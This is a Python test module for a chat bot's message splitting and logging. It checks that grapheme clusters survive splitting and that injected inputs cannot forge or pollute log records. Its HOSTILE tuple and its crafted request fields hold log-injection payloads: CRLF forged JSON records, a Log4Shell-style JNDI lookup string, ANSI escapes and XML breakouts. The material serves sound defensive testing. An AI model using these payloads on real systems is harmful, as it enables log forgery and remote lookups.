"""Rows 44 and 45: signs at the edge of a message, and signs that would spoil a log."""

import json
import re
import signal
from itertools import count

import pytest
import regex
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.text import split
from simulator.bodies import pack_xml
from simulator.callbacks import stamp_now
from tests.bot import faulty_model
from tests.scenarios.house import House

LIMIT = 2048
CLUSTERS = ("👨‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👩🏻‍🚀", "🇨🇳", "❤️", "e\u0301\u0323", "각", "नि", "𠮷", "字", "é", "z")
MARKER = "zq7marker"
_people = count(1)


@pytest.fixture
def house(shared: House) -> House:
    """The module's house with a stand-in that answers at once."""
    shared.simulator.model.reset()
    return shared


def somebody() -> str:
    return f"oSigns_{next(_people):021d}"


def clusters(text: str) -> list[str]:
    """What a person sees as one sign each, blanks left out."""
    return [found for found in regex.findall(r"\X", text) if found.strip()]


# Row 44


@settings(deadline=None, max_examples=100)
@given(
    filler=st.sampled_from(["字", "a", "🇨🇳", "é"]),
    room=st.integers(0, 40),
    edge=st.lists(st.sampled_from(CLUSTERS), min_size=1, max_size=12),
    lone=st.sampled_from(["", "\ud83d", "\udc00", "\ud83d\u200d"]),
    behind=st.integers(0, 700),
)
@example("字", 25, ["👨‍👩‍👧‍👦"] * 3, "", 700)
def test_row_44_no_sign_is_split_at_the_edge_of_a_message(
    filler: str, room: int, edge: list[str], lone: str, behind: int
) -> None:
    """Every part holds at most 2 048 bytes of UTF-8 and whole signs only; joined they are the original."""
    ahead = filler * ((LIMIT - room) // len(filler.encode()))
    text = ahead + "".join(edge) + lone + "字" * behind

    parts = split(text, LIMIT)

    original = regex.sub(r"[\ud800-\udfff]", "\ufffd", text)
    assert all(0 < len(part.encode()) <= LIMIT for part in parts)
    assert "".join(parts) == original
    assert [found for part in parts for found in clusters(part)] == clusters(original)


@pytest.mark.parametrize("account", ["shop", "office"])
def test_row_44_signs_at_the_edge_arrive_whole(house: House, account: str) -> None:
    """Through the house, streamed code point by code point: bytes, signs and words are as they were."""
    told = "".join(f"{'字' * (660 + 3 * shift)}{''.join(CLUSTERS)}" for shift in range(3))
    peer = somebody()
    house.simulator.model.set(answers=[told], chunk_chars=1, chunks_per_s=20_000.0)
    house.simulator.say(account, peer, "讲")
    house.simulator.wait_replies(account, peer, 4 if account == "shop" else 3)
    house.drained()

    texts = [sent.text for sent in house.simulator.replies(account, peer)]
    assert all(len(text.encode()) <= LIMIT for text in texts)
    words = "".join(
        re.sub(r"\n(?:— AI 生成 · \d/\d —|\(\d/\d\))$|\n\n回答由 AI.*", "", text) for text in texts
    )
    assert clusters(words) == clusters(told)


def test_row_44_half_a_sign_harms_nobody(house: House) -> None:
    """Lone surrogates, from the model in JSON and from outside in signed XML: U+FFFD, or 400; never 5xx."""
    simulator, peer = house.simulator, somebody()
    for half in (b"\xed\xa0\xbd", b"&#xD83D;", b"\xf0\x9f\x91", b"\xff\xfe"):
        xml = pack_xml(simulator.accounts["shop"], half.decode("latin-1"), peer, stamp_now(simulator.world))
        assert simulator.send_raw("shop", xml.query, half).status == 400
        body = f"<xml><FromUserName>{peer}</FromUserName><Content>".encode() + half + b"</Content></xml>"
        assert simulator.send_raw("shop", xml.query, body).status == 400
    with faulty_model.serving() as server:
        server.script(faulty_model.answers("半\ud83d", "个", "👨\u200d", "👩", "\udc00完"))
        house.stop("worker0", signal.SIGKILL)
        house.start_worker(0, {"OPENAI_BASE_URL": server.url})
        simulator.say("office", peer, "说")
        (sent,) = simulator.wait_replies("office", peer, 1, 20.0)
        house.drained()
        house.stop("worker0", signal.SIGKILL)
    house.start_worker(0)
    house.await_ready()

    assert sent.text == "半\ufffd个👨‍👩\ufffd完"


# Row 45

HOSTILE = (
    f"{MARKER}\r\n" + '{"ts":"2026-01-01","level":"error","event":"settled","n":1}',
    f"{MARKER}\u2028\u2029\u0085\x7f\u009b31mred\u009b0m",
    f'{MARKER}","event":"accepted","text":"{MARKER}',
    f"{MARKER}%s %(event)s {{event}} ${{jndi:ldap://a.example}}",
    f"{MARKER}\u202eevent\u202c\ufeff\u200b\t|",
    f"{MARKER}]]></Content><x/>" + "\\x1b[2J\\n",
)


def records(house: House, name: str, since: int) -> list[dict[str, object]]:
    """The log records of a process after its first *since* bytes; each line is one of them, in ASCII."""
    lines = (house.folder / f"{name}.log").read_bytes()[since:].split(b"\n")
    assert lines.pop() == b""
    assert not [line for line in lines if re.search(rb"[^\x20-\x7e]", line)]
    found = [json.loads(line) for line in lines]
    assert all(isinstance(one, dict) and isinstance(one["event"], str) for one in found)
    return found


def test_row_45_one_record_for_each_event_and_nobodys_words(house: House) -> None:
    """Whatever people, the model and strangers write: one escaped line each, without a word of theirs."""
    simulator = house.simulator
    house.drained()
    starts = {name: (house.folder / f"{name}.log").stat().st_size for name in ("web0", "worker0")}
    simulator.model.set(answers=lambda messages: f"{messages[-1]['content']}\x1b[31m\r\n\x00{MARKER}")
    peers = [(account, somebody()) for account in ("shop", "office")]
    for account, peer in peers:
        for text in HOSTILE:
            assert simulator.say(account, peer, text).acknowledged
        assert simulator.event(account, peer, "CLICK", HOSTILE[0]).acknowledged
        assert simulator.event(account, peer, HOSTILE[1], "key").acknowledged
    rude = simulator.packet("shop", "oRude", f"\x1b[31m{MARKER}\x00")
    statuses = [simulator.send_raw("shop", rude.query, rude.body).status]
    for name, value in (
        ("nonce", f"{MARKER}\r\n\x1b[2J"),
        ("msg_signature", f"{MARKER}\n{{}}"),
        ("timestamp", "\n1"),
    ):
        statuses.append(simulator.send_raw("shop", {**rude.query, name: value}, rude.body).status)
    statuses.append(simulator.send_raw(f"{MARKER}%0A%1B[31m", rude.query, rude.body).status)
    house.drained()

    assert statuses == [400, 403, 403, 400, 404]
    web, worker = (records(house, name, starts[name]) for name in ("web0", "worker0"))
    kept = 2 * (len(HOSTILE) + 2)
    assert sum(one["event"] == "accepted" for one in web) == kept
    # Lines that waited together end in the record of the one that they were answered with.
    assert sum(1 + one["merged"] for one in worker if one["event"] == "settled") == kept
    assert sum(one["event"] in ("callback refused", "callback clock") for one in web) == 4
    logs = house.log("web0") + house.log("worker0")
    assert MARKER not in logs
    assert not [peer for _, peer in peers if peer in logs]
